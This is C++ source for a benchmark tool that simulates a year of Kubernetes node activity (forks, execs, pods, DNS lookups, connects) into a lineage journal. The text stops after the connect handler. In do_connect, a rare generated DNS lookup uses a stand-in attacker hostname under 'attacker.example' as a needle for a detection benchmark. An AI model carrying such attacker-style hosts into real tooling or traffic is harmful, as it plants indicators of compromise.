// bench_gen_journal: a synthetic journal of one busy Kubernetes node, for
// timing `lineage reconstruct` on a year of data.
//
//   bench_gen_journal --out PATH [--events N] [--pods P] [--days D] [--seed S]
//                     [--queries Q --queries-out FILE] [--selectors-out FILE]
//                     [--dry-run]
//   bench_gen_journal --version
//
// The node is simulated, not sampled: processes are forked, exec'd and
// reaped in time order, and every row is written through JournalWriter as
// `lineage record` would write it. What the year holds:
//   - boots: 4 (a reboot a quarter), each with its own boot id, pid space
//     and clock; the recorder runs twice per boot (restarted mid-quarter,
//     one of the runs killed without a stop row), with a /proc snapshot at
//     every start and clock samples as the recorder stores them (checked
//     every 60 s, stored when the wall - boot offset moved > 1 ms, as NTP
//     steps do, or hourly);
//   - PIDs: allocated as Linux does (next free after the last, wrapping at
//     pid_max 32768 back to 300, threads eating some), so every PID is
//     reused many times a boot;
//   - pods: P pods over the year, each a containerd-shim (long-lived, forked
//     by containerd), a pause container and 1-2 app containers started through
//     runc, in kubepods cgroups (systemd driver) with the pod name as UTS host
//     name; a pods row per pod per run. Kinds: services living 1-45 days
//     (some with exec probes, some with app workers and occasional
//     subprocess jobs), batch jobs (minutes to hours), CI runners (builds of
//     20-500 processes, make recursion: trees 8-12 deep), crash-looping pods
//     (a new container every few minutes) and debug pods (interactive shells
//     running downloads and scripts);
//   - fork-only churn in pods (processes that never exec): pre-fork servers'
//     workers, subshells of jobs and debug shells, and a node-health
//     DaemonSet pod, there all year, whose shell loop forks a subshell every
//     15 s that checks a port (2 M forks a year in one pod);
//   - what schema version 3 adds, as the recorder writes it: a memberships
//     row for every fork and exec in a pod's cgroup and for the move that
//     puts runc's init there, a cgroups row per cgroup and run, each pod's
//     'alive' set every 256 of its rows, and a pods row when a run first
//     meets a pod (exec, fork, move or the /proc snapshot);
//   - the host: systemd, containerd, kubelet, cron jobs, with kubelet mounts
//     per pod;
//   - TCP connects from the tools that open them; a few loss rows.
// Activity rates are calibrated by a dry pass so that the journal holds
// about N events (fork + exec + exit + connect rows).
//
// Two deliberate shortcuts keep generation to about a minute for 10 M
// events: batches are committed every 4096 rows or simulated hour (a live
// recorder commits every 100 ms, so a real year has far more, smaller
// batches; the event rows are the same), and the indexes of schema/journal.sql
// are created after the rows are in, not maintained row by row (the journal
// ends with exactly the schema a recorder creates, with denser index pages).
//
// --queries-out writes Q lines "POD<TAB>SINCE<TAB>UNTIL<TAB>KIND": a pod
// (namespace/name) and a 10-minute window (@epoch seconds) around one of its
// recorded activities, each from a different pod.
//
// --selectors-out writes what the other selectors' queries need, as
// KEY=VALUE lines (times as @epoch seconds):
//   t                  a moment a fifth into the middle boot (recorded), where
//                      the bare windows start
//   namespace          the node-health DaemonSet's namespace (its pod forks
//                      every 15 s all year)
//   rare_binary        a base name exec'd exactly once in the journal (the one
//                      nearest t), rare_binary_t when
//   common_binary      the base name exec'd most often but sh, with
//                      common_binary_execs; sh_execs for sh
//   pid, pid_t         a make (a build's tree) exec'd at or after t, or the
//                      first exec after t when the journal has no make
//   rare_name          a name looked up exactly once (the one nearest t),
//                      rare_name_t when
//   common_name        the name looked up most often, common_name_lookups
//                      times; name_suffix, a glob of the cluster's names
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cmath>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <memory>
#include <optional>
#include <queue>
#include <random>
#include <string>
#include <unordered_map>
#include <vector>

#include <fmt/format.h>

#include "journal_format.h"
#include "journal_writer.h"
#include "pod.h"
#include "sqlite.h"

namespace lineage::bench {

// Bump when the output for the same options changes: bench/run keys its
// cache of generated journals on it.
// 2: clock samples as the recorder writes them; 3: the writer's page size;
// 4: schema version 3 (memberships, cgroups) and fork-only churn in pods;
// 5: DNS lookups before connects (schema version 10's dns rows, 11's names).
constexpr int kGeneratorVersion = 5;

namespace {

constexpr uint64_t kMs = 1'000'000;
constexpr uint64_t kSec = 1000 * kMs;
constexpr uint64_t kMin = 60 * kSec;
constexpr uint64_t kHour = 60 * kMin;
constexpr uint64_t kDay = 24 * kHour;
constexpr uint64_t kForever = UINT64_MAX;
constexpr uint32_t kPidMax = 32768;
constexpr int kBoots = 4;
// 2025-01-01T00:00:00Z: a fixed year, so the same seed gives the same file.
constexpr int64_t kYearStartWallNs = 1735689600LL * 1'000'000'000LL;

struct GenOptions {
    std::string out;
    std::string queries_out;
    uint64_t events = 10'000'000;
    int pods = 2000;
    int days = 365;
    uint64_t seed = 1;
    int queries = 20;
    std::string selectors_out;
    bool dry_run = false;
};

[[noreturn]] void die(const std::string& message) {
    fmt::print(stderr, "bench_gen_journal: {}\n", message);
    std::exit(2);
}

// Only the raw 64-bit stream of mt19937_64 is used (its output is fixed by
// the standard), so a seed gives the same journal with any standard library.
class Rng {
public:
    explicit Rng(uint64_t seed) : engine_(seed) {}
    uint64_t next() { return engine_(); }
    uint64_t below(uint64_t n) { return n ? next() % n : 0; }
    uint64_t between(uint64_t lo, uint64_t hi) { return lo + below(hi - lo + 1); }
    double real() { return static_cast<double>(next() >> 11) * 0x1.0p-53; }
    bool chance(double p) { return real() < p; }
    // Exponential inter-arrival with this mean.
    uint64_t exp_ns(double mean_ns) { return static_cast<uint64_t>(-std::log(1.0 - real()) * mean_ns) + 1; }
    uint64_t log_uniform(uint64_t lo, uint64_t hi) {
        double l = std::log(static_cast<double>(lo)), h = std::log(static_cast<double>(hi));
        return static_cast<uint64_t>(std::exp(l + (h - l) * real()));
    }
    std::string hex(int n) {
        static const char digits[] = "0123456789abcdef";
        std::string s;
        s.reserve(static_cast<size_t>(n));
        for (int i = 0; i < n; ++i) s.push_back(digits[next() & 15]);
        return s;
    }
    std::string alnum(int n) {
        static const char chars[] = "bcdfghjklmnpqrstvwxz2456789";
        std::string s;
        for (int i = 0; i < n; ++i) s.push_back(chars[below(sizeof(chars) - 1)]);
        return s;
    }
    std::string uuid() { return hex(8) + "-" + hex(4) + "-4" + hex(3) + "-a" + hex(3) + "-" + hex(12); }
    template <typename T>
    const T& pick(const std::vector<T>& v) {
        return v[below(v.size())];
    }

private:
    std::mt19937_64 engine_;
};

// argv as the kernel keeps it: NUL separated, NUL terminated.
std::string argv_of(std::initializer_list<std::string_view> args) {
    std::string out;
    for (auto a : args) {
        out.append(a);
        out.push_back('\0');
    }
    return out;
}

std::string argv_of(const std::vector<std::string>& args) {
    std::string out;
    for (const auto& a : args) {
        out.append(a);
        out.push_back('\0');
    }
    return out;
}

std::string comm_of(const std::string& binary) {
    auto slash = binary.rfind('/');
    std::string base = slash == std::string::npos ? binary : binary.substr(slash + 1);
    if (base.size() > 15) base.resize(15);
    return base;
}

// Where a process runs: its cgroup, UTS host name and pid namespace.
struct Context {
    std::string cgroup_path;
    std::string pod_uid;       // of cgroup_path, as the recorder works it out
    std::string container_id;  // of cgroup_path
    uint64_t cgroup_id = 0;
    std::string nodename;
    int pod = -1;
    bool own_pidns = false;
    uint32_t next_nspid = 1;
};

struct Proc {
    uint32_t tgid = 0;
    uint64_t start_ns = 0;
    uint32_t nspid = 0;
    std::shared_ptr<Proc> parent;
    std::string comm, binary, argv;
    uint32_t uid = 0;
    int ctx = 0;
    int depth = 0;  // ancestors up to pid 1
    bool alive = true;
};
using ProcPtr = std::shared_ptr<Proc>;

struct ExecImg {
    uint64_t delay_ns = 0;  // after the fork
    std::string binary;
    std::string argv;
};

enum Role : uint8_t { kRoleNone, kRoleShim, kRolePause, kRoleMain, kRoleWorker };

// One process of an activity: when it forks (relative to its parent's
// start, or to the activity's time for a root), what it execs, how long it
// lives, how it ends.
struct Node {
    int parent = -1;  // index in the activity; -1: the activity's anchor process
    uint64_t fork_at = 0;
    uint64_t life = 0;  // fork to exit, or kForever (ended with its pod)
    std::vector<ExecImg> execs;
    int ctx = 0;
    uint32_t uid = 0;
    int code = 0, sig = 0;
    Role role = kRoleNone;
    int container = 0;  // for pod roles
    int connects = 0;
    std::string daddr;
    uint16_t dport = 0;
    std::vector<int> children;
    ProcPtr proc;
    bool skipped = false;
};

struct Activity {
    std::vector<Node> nodes;
    ProcPtr anchor;
    int pod = -1;
    bool fixed = false;  // pod lifecycle: not scaled by the calibration

    int add(int parent, uint64_t fork_at, uint64_t life, int ctx, uint32_t uid, std::vector<ExecImg> execs) {
        Node n;
        n.parent = parent;
        n.fork_at = fork_at;
        n.life = life;
        n.ctx = ctx;
        n.uid = uid;
        n.execs = std::move(execs);
        nodes.push_back(std::move(n));
        int index = static_cast<int>(nodes.size()) - 1;
        if (parent >= 0) nodes[static_cast<size_t>(parent)].children.push_back(index);
        return index;
    }
};
using ActivityPtr = std::shared_ptr<Activity>;

enum class Act : uint8_t {
    spawn,
    exec,
    exit,
    connect,
    pod_start,
    pod_tick,
    pod_end,
    host_tick,
    clock,
    run_start,
    run_stop,
    loss
};

struct Action {
    uint64_t t = 0;
    uint64_t seq = 0;
    Act kind = Act::spawn;
    int a = 0, b = 0;
    ActivityPtr act;
    ProcPtr proc;
    bool operator>(const Action& o) const { return t != o.t ? t > o.t : seq > o.seq; }
};

enum class PodKind : uint8_t { service, job, ci, crashloop, debug, daemon };

const char* kind_name(PodKind k) {
    switch (k) {
        case PodKind::service:
            return "service";
        case PodKind::job:
            return "job";
        case PodKind::ci:
            return "ci";
        case PodKind::crashloop:
            return "crashloop";
        case PodKind::debug:
            return "debug";
        case PodKind::daemon:
            return "daemon";
    }
    return "?";
}

struct AppImage {
    std::string binary;
    std::vector<std::string> args;
    int workers = 0;    // forked without exec (prefork servers)
    std::string probe;  // "" = no exec probe
    std::string probe_tool;
    uint16_t port = 8080;
};

struct Pod {
    std::string uid, name, ns, qos;
    PodKind kind = PodKind::service;
    uint64_t arrive = 0, depart = 0;  // ns since the year start
    int containers = 1;
    AppImage app;
    // Per boot:
    bool alive = false;
    ProcPtr shim;
    std::vector<int> container_ctx;  // app containers; [0] main
    int pause_ctx = -1;
    std::vector<std::pair<int, ProcPtr>> forever;  // (container, process) ended with the pod
    int restarts = 0;
    // For the query list: one recorded activity, picked uniformly.
    int64_t sample_wall_ns = 0;
    uint64_t samples = 0;
};

class Generator {
public:
    Generator(const GenOptions& o, double scale, JournalWriter* writer)
        : o_(o), scale_(scale), writer_(writer), rng_(o.seed) {}

    void run();

    uint64_t events() const { return events_; }
    uint64_t fixed_events() const { return fixed_events_; }

    struct Stats {
        uint64_t processes = 0, forks = 0, execs = 0, exits = 0, connects = 0, snapshot = 0, clock = 0, pods_rows = 0,
                 batches = 0, losses = 0, pid_wraps = 0, runs = 0, membership_rows = 0, cgroups_rows = 0, dns_rows = 0;
        int max_depth = 0;
    } stats;
    const std::vector<Pod>& pods() const { return pods_; }

    // What --selectors-out reports (see the header comment).
    struct Picks {
        int64_t t_wall = 0;
        uint32_t pid = 0;
        int64_t pid_wall = 0;
        bool pid_is_make = false;
        // Recorded execs by base name: how many, and the wall time of the last.
        std::unordered_map<std::string, std::pair<uint64_t, int64_t>> bases;
        // Names looked up, the same way.
        std::unordered_map<std::string, std::pair<uint64_t, int64_t>> names;
    } picks;

private:
    // Setup
    void make_pods();
    int new_context(std::string cgroup, std::string nodename, int pod, bool own_pidns);
    void start_boot(int boot);
    // Simulation
    void push(uint64_t t, Act kind, ActivityPtr act = nullptr, int a = 0, int b = 0, ProcPtr proc = nullptr);
    void launch(const ActivityPtr& act, uint64_t t);
    void do_spawn(const Action& x);
    void do_exec(const Action& x);
    void do_exit(const ProcPtr& p, int code, int sig, uint64_t t, bool fixed);
    void do_connect(const Action& x);
    // A lookup of `name` answered with `addr`: the query sent and the answer
    // received (dns rows, not counted as events).
    void lookup(ProcRef proc, const std::string& name, const std::string& addr, uint64_t t);
    void pod_start(int pod, uint64_t t);
    void pod_tick(int pod, int which, uint64_t t);
    void pod_end(int pod, uint64_t t);
    void host_tick(int which, uint64_t t);
    uint32_t alloc_pid();
    // Activity builders
    ActivityPtr sandbox_activity(int pod);
    ActivityPtr container_activity(int pod, int container, int ctx, uint64_t at);
    ActivityPtr probe_activity(int pod);
    ActivityPtr app_job_activity(int pod);
    ActivityPtr ci_build_activity(int pod);
    ActivityPtr job_step_activity(int pod);
    ActivityPtr debug_session_activity(int pod);
    ActivityPtr cron_activity();
    ActivityPtr kubelet_mount_activity(int pod);
    ActivityPtr health_check_activity(int pod);
    uint64_t build_make(Activity& a, int parent, uint64_t at, int ctx, int depth, int units);
    // Output
    bool recording() const { return recording_; }
    int64_t wall(uint64_t boot_ns) const;
    void before_row(uint64_t t);
    void after_row();
    void count_event(bool fixed);
    void note_pod_activity(int pod, uint64_t t);
    void write_snapshot(uint64_t t);
    // The recorder's memberships row of p (in a pod's cgroup), the cgroups
    // row before the first one of its cgroup in the run, and the pod's
    // 'alive' set when due (lib/record/recorder.cpp does the same).
    void membership(const ProcPtr& p, MembershipHow how, uint64_t t, const Proc* by);
    void forget_member(const Proc& p);
    void name_pod(int pod);
    void check(const Status& st) {
        if (!st) die(st.error().message);
    }

    GenOptions o_;
    double scale_;
    JournalWriter* writer_;
    Rng rng_;

    std::vector<Pod> pods_;
    std::vector<Context> contexts_;
    std::vector<AppImage> images_;
    int ctx_init_ = 0, ctx_containerd_ = 0, ctx_kubelet_ = 0, ctx_cron_ = 0, ctx_system_ = 0;
    std::string node_ = "ip-10-20-31-47";

    std::priority_queue<Action, std::vector<Action>, std::greater<>> heap_;
    uint64_t seq_ = 0;
    std::vector<uint8_t> pid_used_;
    uint32_t last_pid_ = 1;
    std::unordered_map<uint32_t, ProcPtr> live_;
    ProcPtr init_, containerd_, kubelet_, cron_;

    int boot_ = 0;
    std::string boot_id_;
    uint64_t boot_year_ns_ = 0;  // boot start, ns since the year start
    uint64_t boot_len_ = 0;
    double drift_phase_ = 0;
    int64_t ntp_step_ns_ = 0;
    bool recording_ = false;
    std::vector<bool> pod_named_;       // per pod, in the current run
    std::vector<bool> cgroup_written_;  // per context, in the current run
    struct PodMembers {
        std::unordered_map<uint32_t, ProcPtr> live;  // by tgid
        size_t rows_since_alive = 0;
    };
    std::vector<PodMembers> members_;  // per pod, in the current run

    uint64_t events_ = 0, fixed_events_ = 0;
    uint64_t batch_start_ = 0, last_row_t_ = 0;
    bool batch_open_ = false;
    std::vector<std::pair<uint64_t, int64_t>> pending_clock_;
    uint64_t last_clock_t_ = 0;
    int64_t last_clock_offset_ = 0;
    uint64_t run_events_ = 0;
};

int Generator::new_context(std::string cgroup, std::string nodename, int pod, bool own_pidns) {
    Context c;
    c.cgroup_path = std::move(cgroup);
    if (auto kube = parse_kube_cgroup(c.cgroup_path)) {
        c.pod_uid = kube->pod_uid;
        c.container_id = kube->container_id;
    }
    c.cgroup_id = 3000 + contexts_.size() * 7;
    c.nodename = std::move(nodename);
    c.pod = pod;
    c.own_pidns = own_pidns;
    contexts_.push_back(std::move(c));
    return static_cast<int>(contexts_.size()) - 1;
}

void Generator::make_pods() {
    images_ = {
        {"/usr/local/bin/api-server",
         {"--port=8080", "--config=/etc/api/config.yaml", "--log-level=info"},
         0,
         "curl -fsS http://127.0.0.1:8080/healthz",
         "/usr/bin/curl",
         8080},
        {"/usr/bin/python3",
         {"-m", "gunicorn", "app.wsgi:application", "-w", "4", "-b", "0.0.0.0:8000"},
         4,
         "python3 /app/healthcheck.py",
         "/usr/bin/python3",
         8000},
        {"/usr/bin/java",
         {"-Xmx768m", "-XX:+UseG1GC", "-jar", "/app/orders-service.jar", "--spring.profiles.active=prod"},
         0,
         "",
         "",
         8080},
        {"/docker-entrypoint.sh", {"nginx", "-g", "daemon off;"}, 2, "", "", 80},
        {"/usr/local/bin/redis-server", {"*:6379"}, 0, "redis-cli -h 127.0.0.1 ping", "/usr/local/bin/redis-cli", 6379},
        {"/usr/lib/postgresql/15/bin/postgres",
         {"-D", "/var/lib/postgresql/data", "-c", "max_connections=200"},
         3,
         "pg_isready -U postgres -h 127.0.0.1 -p 5432",
         "/usr/lib/postgresql/15/bin/pg_isready",
         5432},
        {"/usr/local/bin/node",
         {"/app/dist/server.js"},
         0,
         "wget -qO- http://127.0.0.1:3000/ready",
         "/usr/bin/wget",
         3000},
        {"/bin/prometheus",
         {"--config.file=/etc/prometheus/prometheus.yml", "--storage.tsdb.path=/prometheus"},
         0,
         "",
         "",
         9090},
        {"/usr/local/bin/envoy",
         {"-c", "/etc/envoy/envoy.yaml", "--service-cluster", "edge"},
         0,
         "curl -fsS http://127.0.0.1:9901/ready",
         "/usr/bin/curl",
         9901},
        {"/app/worker", {"--queue=payments", "--concurrency=8"}, 0, "cat /tmp/healthy", "/bin/cat", 0},
    };
    const std::vector<std::string> namespaces = {"prod", "payments",    "staging", "monitoring", "default",
                                                 "data", "kube-system", "ci",      "batch",      "tools"};
    const std::vector<std::string> deployments = {
        "api",        "web",       "orders",   "checkout", "search",    "auth",     "catalog",   "gateway",
        "ingest",     "billing",   "mailer",   "notifier", "reporting", "cache",    "session",   "ledger",
        "inventory",  "pricing",   "shipping", "metrics",  "frontend",  "backend",  "profile",   "images",
        "thumbnails", "analytics", "events",   "audit",    "scheduler", "exporter", "collector", "proxy"};
    const uint64_t span = static_cast<uint64_t>(o_.days) * kDay;
    pods_.resize(static_cast<size_t>(o_.pods));
    for (auto& p : pods_) {
        p.uid = rng_.uuid();
        double r = rng_.real();
        p.kind = r < 0.55   ? PodKind::service
                 : r < 0.80 ? PodKind::job
                 : r < 0.90 ? PodKind::ci
                 : r < 0.95 ? PodKind::crashloop
                            : PodKind::debug;
        uint64_t life = 0;
        switch (p.kind) {
            case PodKind::service:
                life = rng_.log_uniform(1 * kDay, 45 * kDay);
                p.ns = rng_.pick(namespaces);
                p.name = fmt::format("{}-{}-{}", rng_.pick(deployments), rng_.alnum(9), rng_.alnum(5));
                p.app = rng_.pick(images_);
                if (!p.app.probe.empty() && rng_.chance(0.4)) p.app.probe.clear();
                p.containers = rng_.chance(0.3) ? 2 : 1;
                break;
            case PodKind::job:
                life = rng_.log_uniform(2 * kMin, 3 * kHour);
                p.ns = rng_.chance(0.5) ? "batch" : "data";
                p.name = fmt::format("{}-{}-{}", rng_.pick(deployments), 29000000 + rng_.below(900000), rng_.alnum(5));
                p.app = {"/bin/sh", {"-c", "/scripts/run-job.sh"}, 0, "", "", 0};
                break;
            case PodKind::ci:
                life = rng_.log_uniform(1 * kHour, 7 * kDay);
                p.ns = "ci";
                p.name = fmt::format("runner-{}-project-{}-concurrent-0", rng_.alnum(8), 100 + rng_.below(900));
                p.app = {"/usr/bin/gitlab-runner-helper", {"build"}, 0, "", "", 0};
                break;
            case PodKind::crashloop:
                life = rng_.log_uniform(10 * kMin, 2 * kDay);
                p.ns = rng_.pick(namespaces);
                p.name = fmt::format("{}-{}-{}", rng_.pick(deployments), rng_.alnum(9), rng_.alnum(5));
                p.app = rng_.pick(images_);
                p.app.probe.clear();
                break;
            case PodKind::debug:
                life = rng_.log_uniform(10 * kMin, 1 * kDay);
                p.ns = rng_.chance(0.5) ? "default" : "tools";
                p.name = fmt::format("debug-{}", rng_.alnum(5));
                p.app = {"/bin/sleep", {"infinity"}, 0, "", "", 0};
                break;
            case PodKind::daemon:  // made below, never drawn
                break;
        }
        p.qos = rng_.chance(0.7) ? "burstable" : rng_.chance(0.5) ? "besteffort" : "";
        life = std::min(life, span / 2);
        p.arrive = rng_.below(span - life / 2);
        p.depart = std::min(p.arrive + life, span);
    }
    // The node-health DaemonSet: there all year (restarted with every boot),
    // its shell loop forking a subshell every 15 s.
    Pod daemon;
    daemon.uid = rng_.uuid();
    daemon.kind = PodKind::daemon;
    daemon.ns = "kube-system";
    daemon.name = "node-health-" + rng_.alnum(5);
    daemon.app = {"/bin/sh",
                  {"-c", "while :; do ( exec 3<>/dev/tcp/127.0.0.1/10248 ) 2>/dev/null; read -t 15 <> /dev/fd/1; done"},
                  0,
                  "",
                  "",
                  0};
    daemon.qos = "";
    daemon.arrive = 0;
    daemon.depart = span;
    pods_.push_back(daemon);
}

void Generator::push(uint64_t t, Act kind, ActivityPtr act, int a, int b, ProcPtr proc) {
    Action x;
    x.t = t;
    x.seq = seq_++;
    x.kind = kind;
    x.a = a;
    x.b = b;
    x.act = std::move(act);
    x.proc = std::move(proc);
    heap_.push(std::move(x));
}

uint32_t Generator::alloc_pid() {
    // Threads take PIDs too: skip a few now and then.
    uint32_t skip = rng_.chance(0.2) ? static_cast<uint32_t>(rng_.between(1, 6)) : 0;
    for (uint32_t tries = 0; tries < 2 * kPidMax; ++tries) {
        ++last_pid_;
        if (last_pid_ >= kPidMax) {
            last_pid_ = 300;
            ++stats.pid_wraps;
        }
        if (pid_used_[last_pid_]) continue;
        if (skip > 0) {
            --skip;
            continue;
        }
        pid_used_[last_pid_] = 1;
        return last_pid_;
    }
    die("out of PIDs");
}

int64_t Generator::wall(uint64_t boot_ns) const {
    // NTP keeps the offset within a few ms: a slow swing plus the odd step.
    double swing = 3e6 * std::sin(drift_phase_ + static_cast<double>(boot_ns) / static_cast<double>(3 * kDay));
    return kYearStartWallNs + static_cast<int64_t>(boot_year_ns_) + static_cast<int64_t>(boot_ns) +
           static_cast<int64_t>(swing) + (boot_ns > boot_len_ / 3 ? ntp_step_ns_ : 0);
}

void Generator::before_row(uint64_t t) {
    if (!writer_) return;
    if (batch_open_ && (t - batch_start_ >= kHour || writer_->pending_rows() >= 4096)) {
        check(writer_->commit(static_cast<int64_t>(last_row_t_ + 100 * kMs)));
        ++stats.batches;
        batch_open_ = false;
    }
    if (!batch_open_) {
        batch_open_ = true;
        batch_start_ = t;
    }
    last_row_t_ = t;
}

void Generator::after_row() {
    // Clock samples join an open batch, as they do in a live recorder.
    if (!writer_ || pending_clock_.empty()) return;
    for (const auto& [boot_ns, wall_ns] : pending_clock_) {
        check(writer_->add_clock_sample(static_cast<int64_t>(boot_ns), wall_ns));
    }
    pending_clock_.clear();
}

void Generator::count_event(bool fixed) {
    ++events_;
    ++run_events_;
    if (fixed) ++fixed_events_;
}

void Generator::note_pod_activity(int pod, uint64_t t) {
    if (!recording_ || pod < 0) return;
    Pod& p = pods_[static_cast<size_t>(pod)];
    ++p.samples;
    if (rng_.below(p.samples) == 0) p.sample_wall_ns = wall(t);
}

void Generator::launch(const ActivityPtr& act, uint64_t t) {
    for (int i = 0; i < static_cast<int>(act->nodes.size()); ++i) {
        if (act->nodes[static_cast<size_t>(i)].parent == -1) {
            push(t + act->nodes[static_cast<size_t>(i)].fork_at, Act::spawn, act, i);
        }
    }
}

void Generator::do_spawn(const Action& x) {
    Activity& a = *x.act;
    Node& n = a.nodes[static_cast<size_t>(x.a)];
    ProcPtr parent = n.parent < 0 ? a.anchor : a.nodes[static_cast<size_t>(n.parent)].proc;
    if (!parent || !parent->alive) {
        n.skipped = true;  // its parent is gone (pod ended, reboot): nothing forks it
        return;
    }
    auto p = std::make_shared<Proc>();
    p->tgid = alloc_pid();
    p->start_ns = x.t;
    p->parent = parent;
    p->comm = parent->comm;
    p->binary = parent->binary;
    p->argv = parent->argv;
    p->uid = n.uid;
    p->ctx = n.ctx;
    p->depth = parent->depth + 1;
    stats.max_depth = std::max(stats.max_depth, p->depth);
    Context& c = contexts_[static_cast<size_t>(n.ctx)];
    p->nspid = c.own_pidns ? c.next_nspid++ : p->tgid;
    n.proc = p;
    live_[p->tgid] = p;
    ++stats.processes;
    if (recording_) {
        ForkEvent e;
        e.time_ns = x.t;
        e.parent = {parent->tgid, parent->start_ns};
        e.child = {p->tgid, p->start_ns};
        e.parent_comm = parent->comm;
        before_row(x.t);
        if (writer_) check(writer_->add(e, ""));
        // In a pod's cgroup: created there by a process in it, or put there
        // by runc (its init, moved in).
        membership(p, parent->ctx == p->ctx ? MembershipHow::fork : MembershipHow::move, x.t, parent.get());
        after_row();
        count_event(a.fixed);
        ++stats.forks;
        note_pod_activity(a.pod, x.t);
    }
    for (int i = 0; i < static_cast<int>(n.execs.size()); ++i) {
        push(x.t + n.execs[static_cast<size_t>(i)].delay_ns, Act::exec, x.act, x.a, i);
    }
    for (int i = 0; i < n.connects; ++i) {
        uint64_t after = n.execs.empty() ? 0 : n.execs.back().delay_ns;
        uint64_t span = n.life == kForever ? 10 * kMin : n.life;
        push(x.t + std::min(span - 1, after + 1 * kMs + rng_.below(span / 2 + 1)), Act::connect, x.act, x.a, i);
    }
    for (int child : n.children) {
        push(x.t + a.nodes[static_cast<size_t>(child)].fork_at, Act::spawn, x.act, child);
    }
    if (n.life != kForever) {
        push(x.t + n.life, Act::exit, x.act, x.a);
    } else if (a.pod >= 0) {
        pods_[static_cast<size_t>(a.pod)].forever.emplace_back(n.container, p);
        if (n.role == kRoleShim) pods_[static_cast<size_t>(a.pod)].shim = p;
    }
}

void Generator::do_exec(const Action& x) {
    Activity& a = *x.act;
    Node& n = a.nodes[static_cast<size_t>(x.a)];
    if (n.skipped || !n.proc || !n.proc->alive) return;
    const ExecImg& img = n.execs[static_cast<size_t>(x.b)];
    Proc& p = *n.proc;
    p.binary = img.binary;
    p.argv = img.argv;
    p.comm = comm_of(img.binary);
    if (!recording_) return;
    const Context& c = contexts_[static_cast<size_t>(p.ctx)];
    // The real parent: the forker while it lives, else the reaper.
    ProcPtr parent = p.parent && p.parent->alive ? p.parent : init_;
    ExecEvent e;
    e.time_ns = x.t;
    e.proc = {p.tgid, p.start_ns};
    e.parent = {parent->tgid, parent->start_ns};
    e.nspid = p.nspid;
    e.old_tid = p.tgid;
    e.uid = e.gid = e.euid = p.uid;
    e.cgroup_id = c.cgroup_id;
    e.comm = p.comm;
    e.parent_comm = parent->comm;
    e.nodename = c.nodename;
    e.cgroup_path = c.cgroup_path;
    e.binary = img.binary;
    e.argv = img.argv;
    before_row(x.t);
    if (writer_) check(writer_->add(e, c.pod_uid));
    {
        const int64_t w = wall(x.t);
        const std::string base = img.binary.substr(img.binary.rfind('/') + 1);
        auto& [count, last] = picks.bases[base];
        ++count;
        last = w;
        if (picks.t_wall != 0 && w >= picks.t_wall && !picks.pid_is_make) {
            if (base == "make" || picks.pid == 0) {
                picks.pid = p.tgid;
                picks.pid_wall = w;
                picks.pid_is_make = base == "make";
            }
        }
    }
    membership(n.proc, MembershipHow::exec, x.t, nullptr);
    count_event(a.fixed);
    ++stats.execs;
    after_row();
}

void Generator::name_pod(int pod) {
    // The recorder names a pod the first time its run meets it (an exec, a
    // fork, a move or the /proc snapshot), from the kubelet's log directory.
    if (pod < 0 || pod_named_[static_cast<size_t>(pod)]) return;
    pod_named_[static_cast<size_t>(pod)] = true;
    const Pod& p = pods_[static_cast<size_t>(pod)];
    if (writer_) check(writer_->add_pod(p.uid, p.name, p.ns, lineage::PodNameSource::log_dir));
    ++stats.pods_rows;
}

void Generator::do_exit(const ProcPtr& p, int code, int sig, uint64_t t, bool fixed) {
    if (!p || !p->alive) return;
    p->alive = false;
    pid_used_[p->tgid] = 0;
    auto it = live_.find(p->tgid);
    if (it != live_.end() && it->second == p) live_.erase(it);
    forget_member(*p);
    if (!recording_) return;
    ExitEvent e;
    e.time_ns = t;
    e.proc = {p->tgid, p->start_ns};
    e.code = code;
    e.signal = sig;
    e.core_dumped = sig == 11 || sig == 6;
    e.comm = p->comm;
    before_row(t);
    if (writer_) check(writer_->add(e, ""));
    after_row();
    count_event(fixed);
    ++stats.exits;
}

// A cluster service's name by its address (10.96.A.B), else a host's.
std::string name_of_address(const std::string& addr) {
    unsigned a = 0, b = 0;
    if (std::sscanf(addr.c_str(), "10.96.%u.%u", &a, &b) == 2)
        return fmt::format("svc-{}-{}.default.svc.cluster.local", a, b);
    std::string host = addr;
    std::replace(host.begin(), host.end(), '.', '-');
    return "host-" + host + ".example.net";
}

// A DNS message of one question (type A), and its one answer when `addr` is
// given (RFC 1035 section 4).
std::string dns_message(uint16_t id, const std::string& name, const std::string& addr) {
    std::string m;
    auto u16 = [&](unsigned v) {
        m.push_back(static_cast<char>(v >> 8));
        m.push_back(static_cast<char>(v & 0xff));
    };
    u16(id);
    u16(addr.empty() ? 0x0100 : 0x8180);
    u16(1);
    u16(addr.empty() ? 0 : 1);
    u16(0);
    u16(0);
    for (size_t from = 0; from <= name.size();) {
        const size_t dot = std::min(name.find('.', from), name.size());
        m.push_back(static_cast<char>(dot - from));
        m.append(name, from, dot - from);
        from = dot + 1;
    }
    m.push_back(0);
    u16(1);
    u16(1);
    if (!addr.empty()) {
        unsigned q[4] = {};
        std::sscanf(addr.c_str(), "%u.%u.%u.%u", &q[0], &q[1], &q[2], &q[3]);
        u16(0xc00c);
        u16(1);
        u16(1);
        u16(0);
        u16(30);
        u16(4);
        for (unsigned v : q) m.push_back(static_cast<char>(v));
    }
    return m;
}

void Generator::do_connect(const Action& x) {
    Node& n = x.act->nodes[static_cast<size_t>(x.a)];
    if (n.skipped || !n.proc || !n.proc->alive || !recording_) return;
    ConnectEvent e;
    e.time_ns = x.t;
    e.outcome_ns = x.t + rng_.between(50'000, 30 * kMs);
    e.proc = {n.proc->tgid, n.proc->start_ns};
    e.family = 4;
    bool local = n.daddr.rfind("127.", 0) == 0;
    e.saddr = local ? "127.0.0.1" : fmt::format("10.244.{}.{}", rng_.below(8), 2 + rng_.below(250));
    e.daddr = n.daddr;
    e.sport = static_cast<uint16_t>(rng_.between(32768, 60999));
    e.dport = n.dport;
    e.established = !rng_.chance(0.03);
    before_row(x.t);
    // Most clients look the name up first; loopback ones do not. One in
    // 4,000 looks up a name of its own: the rare name of --dns's benchmark.
    if (!local && rng_.chance(0.7)) {
        const std::string name =
            rng_.below(4000) == 0 ? fmt::format("x-{}.attacker.example", rng_.alnum(8)) : name_of_address(n.daddr);
        lookup(e.proc, name, n.daddr, x.t - 2 * kMs);
    }
    if (writer_) check(writer_->add(e, ""));
    after_row();
    count_event(x.act->fixed);
    ++stats.connects;
}

